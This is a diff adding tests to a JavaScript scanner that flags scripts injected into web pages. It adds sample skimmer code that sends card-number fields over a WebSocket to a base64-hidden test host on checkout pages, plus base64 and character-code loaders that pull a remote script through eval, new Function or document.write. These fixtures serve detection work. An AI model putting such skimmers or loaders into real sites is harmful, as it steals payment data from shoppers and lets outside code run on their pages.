@@ -27,6 +27,21 @@ describe('scripts that were put into pages', () => {
     expect(rules(parts.join(''))).toEqual(['javascript.skimmer high']);
   });
 
+  it('finds what sends card data through a socket', () => {
+    const parts = [
+      "var w=new WebSocket(atob('d3NzOi8vaW5lcnQuZXhhbXBsZS50ZXN0'));",
+      "if(/checkout/.test(location.href))w.send(btoa(JSON.stringify(document.querySelectorAll('input[name=cc_number]'))))",
+    ];
+    expect(rules(parts.join(''))).toEqual(['javascript.skimmer high']);
+  });
+
+  it.each(['eval(', 'new Function(', 'document.write('])('finds a loader in base64 that %s runs', (run) => {
+    const hidden = btoa("var s=document.createElement('script');s.src='//inert.example.test/a.js';");
+    expect(rules(`${run}atob('${hidden}'))`)).toEqual(['javascript.hidden-loader high']);
+    expect(rules(`${run}atob('${btoa('var inert = 1; show(inert, "<p>a text</p>");')}'))`)).toEqual([]);
+    expect(rules(`var worker = atob('${hidden}');`)).toEqual([]);
+  });
+
   it('finds a loader written in character codes', () => {
     expect(rules(`document.write(String.fromCharCode(${codes('<script src=//x.example.test>')}))`)).toEqual([
       'javascript.hidden-loader high',
